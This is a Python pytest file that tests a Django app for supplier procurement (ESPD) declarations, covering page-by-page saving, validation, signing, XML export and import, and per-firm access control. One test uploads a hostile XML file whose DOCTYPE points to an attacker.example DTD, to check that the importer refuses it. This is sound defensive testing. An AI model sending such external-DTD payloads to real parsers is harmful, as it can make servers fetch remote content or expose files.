"""The pages of a declaration: one group of questions each, saved before the next, without script, for its firm only."""

import re
from io import BytesIO

import pytest
from django.urls import reverse

from suppliers.declarations.espd import espd_of
from suppliers.models import Declaration
from tests.factories.declarations import FULL, NOW, clear, declared, declared_of
from tests.factories.people import join

CONVICTIONS = ["crime-org", "corruption", "fraud", "terr-offence", "finan-laund", "human-traffic"]


@pytest.fixture
def firm(personas, hands):
    hands.at = NOW
    return personas.supplier


@pytest.fixture
def own(firm, personas) -> Declaration:
    return declared(firm, personas.owner)


@pytest.fixture
def browser(client, personas):
    client.force_login(personas.contributor)
    return client


def at(name: str, declaration: Declaration, *more: str) -> str:
    return reverse(f"declarations:{name}", args=[declaration.supplier_id, declaration.pk, *more])


def no_to_all(*codes: str) -> dict[str, str]:
    return {f"{code}-answer": "no" for code in codes}


def everything(page: str) -> dict[str, str]:
    """Say no to every question of yes or no on a page."""
    return dict.fromkeys(re.findall(r'type="radio" name="([^"]+)"', page), "no")


def test_from_nothing_to_a_signed_declaration_page_by_page(client, firm, personas):
    client.force_login(personas.owner)
    assert "Begin" in client.get(reverse("declarations:list", args=[firm.pk])).text
    here = client.post(reverse("declarations:begin", args=[firm.pk])).url
    whole, pages = at("whole", Declaration.objects.get()), []
    while here != whole:
        pages.append(here)
        answer = client.post(here, everything(client.get(here).text))
        assert answer.status_code == 302, here
        here = answer.url
    assert len(pages) == len(set(pages)) == 12
    assert "Sign the declaration" in client.get(here).text
    assert client.post(at("sign", Declaration.objects.get())).url == here
    signed = Declaration.objects.get()
    assert (signed.signed_by, signed.signed_at) == (personas.owner, NOW)
    assert "goes with bids as it stands" in client.get(here).text


def test_a_page_is_saved_before_the_next_and_a_yes_leads_to_its_own(browser, firm, personas):
    here = browser.post(reverse("declarations:begin", args=[firm.pk])).url
    begun = Declaration.objects.get()
    assert here == at("step", begun, "convictions")
    following = browser.post(here, no_to_all(*CONVICTIONS) | {"fraud-answer": "yes"}).url
    assert following == at("step", begun, "fraud")
    begun.refresh_from_db()
    assert begun.answers["fraud"] == {"answer": True}
    told = {"fraud-facts": "A bill was padded.", "fraud-measures": "Two people check.", "fraud-date": "2025-04-03"}
    assert browser.post(following, told).url == at("step", begun, "payments")
    begun.refresh_from_db()
    assert begun.answers["fraud"] == {
        "answer": True, "facts": "A bill was padded.", "measures": "Two people check.", "date": "2025-04-03",
    }  # fmt: skip
    assert "Page 2 of 13" in browser.get(at("step", begun, "fraud")).text
    assert "A bill was padded." in browser.get(following).text


def test_a_ground_must_be_answered_and_nothing_is_ticked_in_advance(browser, firm):
    here = browser.post(reverse("declarations:begin", args=[firm.pk])).url
    assert " checked" not in browser.get(here).text
    answer = browser.post(here, no_to_all(*CONVICTIONS[1:]))
    assert answer.status_code == 422
    assert 'href="#id_crime-org-answer_0"' in answer.text
    assert Declaration.objects.get().answers == {}


def test_figures_are_typed_as_people_write_them_and_suggested_years_alone_say_nothing(browser, own):
    page = browser.get(at("step", own, "finances")).text
    assert 'value="2026-01-01"' in page
    typed = {"gen-year-to-0-start": "2026-01-01", "gen-year-to-0-end": "2026-12-31"}
    typed |= {"gen-year-to-0-amount": "900 000,00"}
    typed |= {"gen-year-to-1-start": "2025-01-01", "gen-year-to-1-end": "2025-12-31"}
    assert browser.post(at("step", own, "finances"), typed | {"whole": "1"}).url == at("whole", own)
    own.refresh_from_db()
    assert own.answers["gen-year-to"] == {"rows": [{"period": ["2026-01-01", "2026-12-31"], "amount": "900000.00"}]}
    people = {"year-manpower-0-year": "2026", "year-manpower-0-people": "12", "year-manpower-1-year": "2025"}
    browser.post(at("step", own, "people"), people)
    own.refresh_from_db()
    assert own.answers["year-manpower"] == {"rows": [{"year": 2026, "people": 12}]}


def test_half_a_period_is_told_beside_its_field_and_what_was_typed_stays(browser, own):
    typed = {"service-perform-0-work": "Parks", "service-perform-0-start": "2026-01-01"}
    answer = browser.post(at("step", own, "services"), typed)
    assert answer.status_code == 422
    assert 'href="#id_service-perform-0-end"' in answer.text
    assert "Parks" in answer.text


def test_who_cannot_sign_is_told_why(browser, own, personas):
    Declaration.objects.update(signed_at=None, signed_by=None)
    page = browser.get(at("whole", own)).text
    assert "An owner or a signatory of the firm signs it." in page
    assert 'aria-disabled="true"' in page
    assert browser.post(at("sign", own)).status_code == 422
    assert Declaration.objects.get().signed_at is None


def test_the_whole_leads_to_each_gap(browser, own):
    answers = {code: values for code, values in clear().items() if code != "fraud"}
    Declaration.objects.update(answers=answers, signed_at=None, signed_by=None)
    page = browser.get(at("whole", own)).text
    assert f'<a href="{at("step", own, "convictions")}">Fraud: not answered yet.</a>' in page


def test_it_goes_out_as_a_file_and_comes_in_again(browser, own, personas):
    answer = browser.get(at("espd", own))
    assert answer.headers["Content-Disposition"] == 'attachment; filename="espd-2027-02-01.xml"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    other = declared_of("Membre", personas.supplier, personas.owner)
    file = BytesIO(answer.content)
    file.name = "espd.xml"
    assert browser.post(at("import", other), {"file": file}).url == at("whole", other)
    other.refresh_from_db()
    assert other.answers == own.answers


def test_a_hostile_file_is_refused_beside_its_field(browser, own):
    file = BytesIO(b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>')
    file.name = "espd.xml"
    answer = browser.post(at("import", own), {"file": file})
    assert answer.status_code == 422
    assert "document type declaration" in answer.text
    large = BytesIO(b" " * (20 * 1024 * 1024 + 1))
    large.name = "espd.xml"
    answer = browser.post(at("import", own), {"file": large})
    assert answer.status_code == 422
    assert "larger than 20 MB" in answer.text


def test_what_was_taken_in_stands_in_the_pages(browser, own, personas):
    other = declared_of("Membre", personas.supplier, personas.owner)
    Declaration.objects.filter(pk=own.pk).update(answers={**clear(), **FULL})
    own.refresh_from_db()
    file = BytesIO(espd_of(own, now=NOW))
    file.name = "espd.xml"
    browser.post(at("import", other), {"file": file})
    page = browser.get(at("step", other, "services")).text
    assert "Parks of Hautepierre &lt;&amp;&gt;" in page
    assert page.count("-recipient") >= 9  # two rows, and one more to fill
    assert "J. Doe" in browser.get(at("whole", other)).text


def test_another_firm_is_named_with_its_number_and_can_be_deleted(browser, firm):
    here = reverse("declarations:list", args=[firm.pk])
    said = {"about": "subcontractor", "name": "Toitures SA", "country": "BE", "identifier": "0200.065.766"}
    wrong = browser.post(here, said)
    assert wrong.status_code == 422
    assert 'href="#id_identifier"' in wrong.text
    begun = browser.post(here, said | {"identifier": ""})
    other = Declaration.objects.get()
    assert begun.url == at("step", other, "convictions")
    assert (other.about, other.name) == ("subcontractor", "Toitures SA")
    assert "Toitures SA" in browser.get(here).text
    assert "Delete the declaration" in browser.get(at("remove", other)).text
    assert browser.post(at("remove", other)).url == here
    assert not Declaration.objects.exists()


@pytest.mark.parametrize("name", ["other_owner", "officer", "auditor", "ombudsperson", "administrator", "stranger"])
def test_to_others_nothing_of_it_is_there(client, own, personas, name):
    other = declared_of("Membre", personas.supplier, personas.owner)
    client.force_login(getattr(personas, name))
    ways = [("whole", own), ("espd", own), ("import", own), ("sign", own), ("remove", other)]
    paths = [at(way, which) for way, which in ways] + [at("step", own, "convictions")]
    paths += [reverse(f"declarations:{way}", args=[own.supplier_id]) for way in ("list", "begin")]
    for path in paths:
        assert client.get(path).status_code in {404, 405}, path
        assert client.post(path, no_to_all(*CONVICTIONS)).status_code == 404, path


def test_under_ones_own_firms_address_another_firms_declaration_is_not_there(client, own, personas):
    client.force_login(personas.other_owner)
    path = reverse("declarations:whole", args=[personas.other_supplier.pk, own.pk])
    assert client.get(path).status_code == 404


def test_a_signatory_signs_in_the_browser(client, own, personas):
    Declaration.objects.update(signed_at=None, signed_by=None)
    client.force_login(join(personas.supplier, "bid_signatory", email="signs@example.org"))
    assert client.post(at("sign", own)).status_code == 302


@pytest.mark.parametrize("others", [1, 3])
def test_the_list_asks_as_often_for_one_as_for_many(browser, own, personas, django_assert_num_queries, others):
    for number in range(others):
        declared_of(f"Membre {number}", personas.supplier, personas.owner)
    path = reverse("declarations:list", args=[own.supplier_id])
    browser.get(path)
    with django_assert_num_queries(5):
        browser.get(path)
